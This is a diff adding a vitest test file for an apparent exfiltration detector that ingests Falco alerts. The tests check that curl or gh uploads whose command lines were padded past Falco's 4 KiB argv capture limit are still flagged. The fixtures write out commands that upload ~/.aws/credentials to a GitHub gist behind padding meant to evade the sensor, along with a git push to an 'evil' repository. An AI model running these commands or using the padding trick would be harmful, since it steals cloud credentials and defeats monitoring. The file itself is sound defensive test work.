@@ -1,0 +1,177 @@
+/**
+ * Falco's drivers copy at most 4096 bytes of a process's argv (MAX_PROC_ARG_ENV), so `curl -H "X-Pad: <4 KiB>"
+ * -T ~/.aws/credentials https://api.github.com/gists` reached exfilwatch as `curl -sS -H X-Pad: AAAA…`: no URL,
+ * no upload flag, no push, where Tetragon (the whole argv) saw a curl push. The normalizer now marks an argv
+ * that reaches the limit, and a table tool so marked, with nothing in the words left deciding it, is a push
+ * to its first connection (a generic uploader's only when that is a forge or a registry).
+ */
+import { describe, expect, it } from 'vitest';
+import { normalizeFalco, parseFalcoJson } from '../../../src/formats/falco/index.js';
+import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
+import { recognizeProcess } from '../../../src/rules/index.js';
+import { CONTAINER, falcoAlertText, T0 } from '../../fixtures/falco/events.js';
+import { brief, makeCorrelator, testResolver } from '../correlate/builder.js';
+
+const norm = (text: string) => normalizeFalco(parseFalcoJson(text), { node: 'node-a' });
+/** The process of a Falco alert that normalizes to an activity event (never a gap here). */
+const processOfAlert = (text: string) => {
+  const e = norm(text);
+  return e !== null && e.kind !== 'gap' ? e.process : null;
+};
+const at = (ms: number) => T0 + BigInt(ms) * 1_000_000n;
+const PAD = `X-Pad: ${'A'.repeat(4200)}`;
+const API_GITHUB = '140.82.112.5'; // builder.ts TEST_DNS: api.github.com
+
+/**
+ * What Falco prints for `argv`: the kernel's NUL-separated argv area cut at 4096 bytes, its last byte made a
+ * NUL (the kmod driver; modern eBPF keeps as much), argv[0] taken off, the rest joined with spaces after the comm.
+ */
+function falcoCmdline(comm: string, argv: readonly string[]): string {
+  const area = Buffer.from(`${argv.join('\0')}\0`);
+  const kept = Buffer.from(area.subarray(0, 4096));
+  kept[kept.length - 1] = 0;
+  const words = kept.toString().slice(0, -1).split('\0');
+  return [comm, ...words.slice(1)].join(' ');
+}
+
+function processFields(pid: number, exepath: string, cmdline: string) {
+  return {
+    ...CONTAINER,
+    'proc.pid': pid,
+    'proc.ppid': 4000,
+    'proc.vpid': pid - 3990,
+    'proc.exepath': exepath,
+    'proc.cmdline': cmdline,
+    'proc.pexepath': '/bin/sh',
+    'proc.pcmdline': 'sh -c /entrypoint.sh',
+    'user.uid': 0,
+  };
+}
+
+const socket = (ip: string) => ({
+  'fd.name': `10.244.1.7:40112->${ip}:443`,
+  'fd.type': 'ipv4',
+  'fd.l4proto': 'tcp',
+  'fd.rip': ip,
+  'fd.rport': 443,
+  'fd.lip': '10.244.1.7',
+  'fd.lport': 40112,
+});
+
+/** Falco's alerts for: `argv` runs, opens the AWS credentials, connects to `ip` (unless null) and sends 3 KiB. */
+function falcoRun(exepath: string, argv: readonly string[], ip: string | null): NormalizedEvent[] {
+  const comm = exepath.slice(exepath.lastIndexOf('/') + 1).slice(0, 15);
+  const proc = processFields(4100, exepath, falcoCmdline(comm, argv));
+  const texts = [
+    falcoAlertText({ evtTimeNs: at(0), fields: { ...proc, 'evt.type': 'execve', 'evt.rawres': 0 } }),
+    falcoAlertText({
+      evtTimeNs: at(20),
+      fields: {
+        ...proc,
+        'evt.type': 'openat',
+        'evt.rawres': 5,
+        'fd.name': '/root/.aws/credentials',
+        'fd.type': 'file',
+      },
+    }),
+  ];
+  if (ip !== null)
+    texts.push(
+      falcoAlertText({ evtTimeNs: at(40), fields: { ...proc, 'evt.type': 'connect', 'evt.rawres': 0, ...socket(ip) } }),
+      falcoAlertText({
+        evtTimeNs: at(60),
+        fields: { ...proc, 'evt.type': 'sendto', 'evt.rawres': 3072, ...socket(ip) },
+      }),
+    );
+  texts.push(
+    falcoAlertText({
+      evtTimeNs: at(300),
+      fields: { ...proc, 'evt.type': 'procexit', 'evt.arg.ret': 0, 'evt.arg.sig': null, 'thread.tid': 4100 },
+    }),
+  );
+  return texts.map(norm).filter((e): e is NormalizedEvent => e !== null);
+}
+
+async function alertsOf(events: NormalizedEvent[]) {
+  const { correlator } = makeCorrelator({ resolveHost: testResolver });
+  await correlator.refreshDestinations();
+  return [...correlator.ingest(events), ...correlator.flush()];
+}
+
+const paddedCurl = ['curl', '-sS', '-H', PAD, '-T', '/root/.aws/credentials', 'https://api.github.com/gists'];
+
+describe('an argv Falco cut at 4 KiB', () => {
+  it('is marked by the normalizer when it reaches the capture limit, and only then', () => {
+    const cut = processOfAlert(
+      falcoAlertText({ evtTimeNs: T0, fields: processFields(4100, '/usr/bin/curl', falcoCmdline('curl', paddedCurl)) }),
+    );
+    expect(cut?.args?.startsWith('-sS -H X-Pad: AAAA')).toBe(true);
+    expect(cut?.args?.includes('api.github.com')).toBe(false);
+    expect(cut?.argvTruncated).toBe(true);
+    // 3.9 KiB of argv is all there is: no mark.
+    const whole = ['curl', '-sS', '-H', `X-Pad: ${'A'.repeat(3900)}`, 'https://example.com/'];
+    const full = processOfAlert(
+      falcoAlertText({ evtTimeNs: T0, fields: processFields(4100, '/usr/bin/curl', falcoCmdline('curl', whole)) }),
+    );
+    expect(full?.args?.endsWith('https://example.com/')).toBe(true);
+    expect(full?.argvTruncated).toBeUndefined();
+    // A rule printing `proc.exe` (argv[0]) gives the exact count: a padded argv[0] leaves few arguments.
+    const exe = `/usr/bin/${'x'.repeat(3000)}`;
+    const fields = { ...processFields(4100, '/usr/bin/curl', falcoCmdline('curl', [exe, '-H', PAD])), 'proc.exe': exe };
+    expect(processOfAlert(falcoAlertText({ evtTimeNs: T0, fields }))?.argvTruncated).toBe(true);
+  });
+
+  it('makes a padded curl upload a push to its first connection', async () => {
+    const alerts = await alertsOf(falcoRun('/usr/bin/curl', paddedCurl, API_GITHUB));
+    expect(brief(alerts)).toEqual([
+      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: `${API_GITHUB}:443` },
+    ]);
+    expect(alerts[0]?.summary).toContain('command line cut by the sensor at 4 KiB');
+    expect(alerts[0]?.evidence.some((x) => x.kind === 'push' && x.detail.includes('cut by the sensor'))).toBe(true);
+  });
+
+  it('leaves a cut generic upload to a destination that is no forge or registry alone', async () => {
+    const webhook = ['curl', '-sS', '-d', `{"text":"${'x'.repeat(5000)}"}`, 'https://hooks.example.com/T0/B0'];
+    expect(await alertsOf(falcoRun('/usr/bin/curl', webhook, '203.0.113.9'))).toEqual([]);
+  });
+
+  it('leaves a cut argv of a tool outside the table, or a sub-command seen whole, alone', async () => {
+    const classpath = Array.from({ length: 200 }, (_, i) => `/opt/app/lib/dependency-${i}.jar`).join(':');
+    const java = ['java', '-cp', classpath, 'com.example.Main', 'https://api.github.com/repos/acme/app'];
+    expect(await alertsOf(falcoRun('/usr/lib/jvm/bin/java', java, API_GITHUB))).toEqual([]);
+    const commit = ['git', 'commit', '-m', 'x'.repeat(5000)];
+    expect(await alertsOf(falcoRun('/usr/bin/git', commit, null))).toEqual([]);
+    // A visible download stays one: `git clone` of a URL list padded past the limit.
+    const clone = ['git', 'clone', '--', `https://github.com/acme/${'a'.repeat(5000)}.git`];
+    expect(await alertsOf(falcoRun('/usr/bin/git', clone, API_GITHUB))).toEqual([]);
+  });
+
+  it('takes a table tool whose sub-command was cut away for a push, and not one whose visible words decide', () => {
+    const view = (binary: string, args: string) => ({
+      binary,
+      args,
+      parentBinary: '/bin/sh',
+      parentArgs: null,
+      argvTruncated: true,
+    });
+    const never = () => false;
+    const gh = recognizeProcess(view('/usr/bin/gh', `-R ${'acme/'.repeat(900)}`), never);
+    expect(gh).toMatchObject({ kind: 'push', tool: 'gh', argvCut: true, destinationHost: null, remote: null });
+    expect(recognizeProcess(view('/usr/bin/git', `commit -m ${'x'.repeat(4000)}`), never)).toBeNull();
+    expect(recognizeProcess(view('/usr/bin/git', `clone https://github.com/${'a'.repeat(4000)}`), never)).toEqual({
+      kind: 'download',
+    });
+    // A push seen whole is the usual push, with its own remote.
+    expect(
+      recognizeProcess(view('/usr/bin/git', `push https://github.com/evil/x.git ${'x'.repeat(4000)}`), never),
+    ).toMatchObject({ kind: 'push', argvCut: false, destinationHost: 'github.com' });
+    // The last word may be a cut `push`: it decides nothing.
+    expect(recognizeProcess(view('/usr/bin/git', `-c x=${'y'.repeat(4000)} pu`), never)).toMatchObject({
+      kind: 'push',
+      argvCut: true,
+    });
+    // An interpreter's script and a shell's `-c` are no tool's own words.
+    expect(recognizeProcess(view('/usr/bin/python3', `-c ${'x'.repeat(4000)}`), never)).toBeNull();
+    expect(recognizeProcess(view('/bin/sh', `-c ${'x'.repeat(4000)}`), never)).toBeNull();
+  });
+});
